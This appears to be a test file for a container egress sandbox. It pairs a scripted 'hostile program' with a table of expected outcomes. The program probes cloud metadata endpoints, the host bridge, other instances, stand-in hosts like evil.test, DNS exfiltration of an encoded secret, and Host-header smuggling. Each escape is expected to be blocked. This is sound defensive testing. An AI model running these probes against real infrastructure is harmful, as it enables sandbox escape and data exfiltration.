"""What a hostile program in a container tries, to get out by another way than its egress, and what comes of it."""

# Tries everything at once, and says what came of each.
PROGRAM = r"""
import concurrent.futures, json, os, socket, ssl, sys, urllib.request
given = json.loads(sys.stdin.readline())
outside, other, authority = given["outside"], given["other"], given["authority"]
proxy = os.environ["HTTPS_PROXY"].removeprefix("http://")
sidecar = proxy.partition(":")[0]
gateway = sidecar.rpartition(".")[0] + "." + str(int(sidecar.rpartition(".")[2]) - 1)
context = ssl.create_default_context(cadata=authority)
context.check_hostname = False

def url(place, proxies=None):
    handlers = [urllib.request.HTTPSHandler(context=context)]
    if proxies is not None:
        handlers.append(urllib.request.ProxyHandler(proxies))
    return urllib.request.build_opener(*handlers).open(place, timeout=5).read().decode()

def tcp(host, port, first=b"", tls=None):
    with socket.create_connection((host, port), 3) as made:
        if tls is not None:
            made = context.wrap_socket(made, server_hostname=tls or None)
        if first:
            made.sendall(first)
        made.settimeout(3)
        got = made.recv(1000)
        return got.decode("latin-1") if got else "closed"

def connect(place, extra=""):
    return tcp(*via, f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n{extra}\r\n".encode()).splitlines()[0]

def udp(host, port, data=b"\0\1\1\0\0\1\0\0\0\0\0\0\4evil\4test\0\0\1\0\1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.connect((host, port))
        made.send(data)
        return made.recv(1000).hex()

def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as made:
        made.settimeout(2)
        made.sendto(b"\x08\0\0\0\0\0\0\1", (host, 0))
        return "answered " + str(made.recvfrom(100)[1])

def look_up(name):
    return socket.getaddrinfo(name, 1, socket.AF_INET)[0][4][0] == sidecar

via = (sidecar, 3128)
none = {}
attempts = {
    "https by the proxy": lambda: url("https://api.test:8443/a"),
    "https by the name": lambda: url("https://api.test:8443/b", none),
    "https to the second host by the name": lambda: url("https://other.test:8443/c", none),
    "https to a wildcard's host by the proxy": lambda: url("https://a.wild.test:8443/d"),
    "https to a wildcard's host by the name": lambda: url("https://a.wild.test:8443/e", none),
    "http by the proxy": lambda: url("http://api.test:8080/f"),
    "http by the name": lambda: url("http://api.test:8080/g", none),
    "plain TCP by the name": lambda: tcp("api.test", 5000),
    "CONNECT to an address that is named": lambda: connect(outside + ":8443"),
    "an allowed name": lambda: look_up("api.test"),
    "a wildcard's name": lambda: look_up("any.wild.test"),
    "another port by the proxy": lambda: connect("api.test:22"),
    "another port by the name": lambda: tcp("api.test", 22),
    "another host by the proxy": lambda: connect("evil.test:8443"),
    "another host by the name": lambda: tcp("evil.test", 8443),
    "another address by the proxy": lambda: connect("172.17.0.1:8080"),
    "an address without the proxy": lambda: tcp(outside, 8443),
    "the host's bridge": lambda: tcp("172.17.0.1", 22),
    "the network's gateway": lambda: tcp(gateway, 22),
    "the metadata": lambda: tcp("169.254.169.254", 80),
    "the metadata by the proxy": lambda: connect("169.254.169.254:80"),
    "the metadata by a name": lambda: connect("metadata.test:80"),
    "a private address by a name": lambda: connect("private.test:8443"),
    "the host by a name": lambda: connect("host.test:8080"),
    "the sidecar by itself": lambda: connect("127.0.0.1:3128"),
    "the sidecar's other address by itself": lambda: connect(sidecar + ":3128"),
    "TLS without a name": lambda: tcp("api.test", 8443, tls=""),
    "TLS with another name": lambda: tcp("api.test", 8443, tls="evil.test"),
    "HTTP for another host": lambda: tcp("api.test", 8080, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "HTTP for another host in CONNECT": lambda: connect("api.test:8080", "X: y\nHost: evil.test\r\n"),
    "another name": lambda: look_up("evil.test"),
    "a secret in a name": lambda: look_up("c2VjcmV0.evil.test"),
    "a name server outside": lambda: udp(outside, 53),
    "a public name server": lambda: udp("8.8.8.8", 53),
    "UDP to the sidecar": lambda: udp(sidecar, 8443),
    "ping": lambda: ping(outside),
    "ping to the host": lambda: ping(gateway),
    "IPv6": lambda: tcp("2001:db8::1", 80),
    "the sidecar's SSH": lambda: tcp(sidecar, 22),
    "another instance's sidecar": lambda: tcp(other["sidecar"], 3128),
    "another instance": lambda: tcp(other["server"], 80),
    "another instance by the proxy": lambda: connect(other["sidecar"] + ":3128"),
    "another instance's name": lambda: look_up(other["name"]),
    "the other side of the sidecar": lambda: tcp(other["bridge"], 3128),
}

def tried(attempt):
    try:
        return str(attempt())
    except Exception as error:
        return "failed: " + type(error).__name__ + " " + str(error)

with concurrent.futures.ThreadPoolExecutor(len(attempts)) as pool:
    found = dict(zip(attempts, pool.map(tried, attempts.values())))
print(json.dumps(found), flush=True)
sys.stdin.read()
"""

OPEN = "HTTP/1.1 200 Connection established"
SHUT = "HTTP/1.1 403 Forbidden"

EXPECTED = {
    "https by the proxy": "GET /a HTTP/1.1",
    "https by the name": "GET /b HTTP/1.1",
    "https to the second host by the name": "GET /c HTTP/1.1",
    "https to a wildcard's host by the proxy": "GET /d HTTP/1.1",
    "https to a wildcard's host by the name": "GET /e HTTP/1.1",
    "http by the proxy": "GET /f HTTP/1.1",
    "http by the name": "GET /g HTTP/1.1",
    "plain TCP by the name": "ready",
    "CONNECT to an address that is named": OPEN,
    "an allowed name": "True",
    "a wildcard's name": "True",
    "another port by the proxy": SHUT,
    "another port by the name": "failed: ConnectionRefusedError",
    "another host by the proxy": SHUT,
    "another host by the name": "failed: gaierror",
    "another address by the proxy": SHUT,
    "an address without the proxy": "failed",
    "the host's bridge": "failed",
    "the network's gateway": "failed",
    "the metadata": "failed",
    "the metadata by the proxy": SHUT,
    "the metadata by a name": SHUT,
    "a private address by a name": SHUT,
    "the host by a name": SHUT,
    "the sidecar by itself": SHUT,
    "the sidecar's other address by itself": SHUT,
    "TLS without a name": "failed: SSLError",
    "TLS with another name": "failed: SSLError",
    "HTTP for another host": SHUT,
    "HTTP for another host in CONNECT": SHUT,
    "another name": "failed: gaierror",
    "a secret in a name": "failed: gaierror",
    "a name server outside": "failed",
    "a public name server": "failed",
    "UDP to the sidecar": "failed",
    "ping": "failed",
    "ping to the host": "failed",
    "IPv6": "failed",
    "the sidecar's SSH": "failed: ConnectionRefusedError",
    "another instance's sidecar": "failed",
    "another instance": "failed",
    "another instance by the proxy": SHUT,
    "another instance's name": "failed: gaierror",
    "the other side of the sidecar": "failed",
}
"""What comes of each attempt: how its outcome begins."""
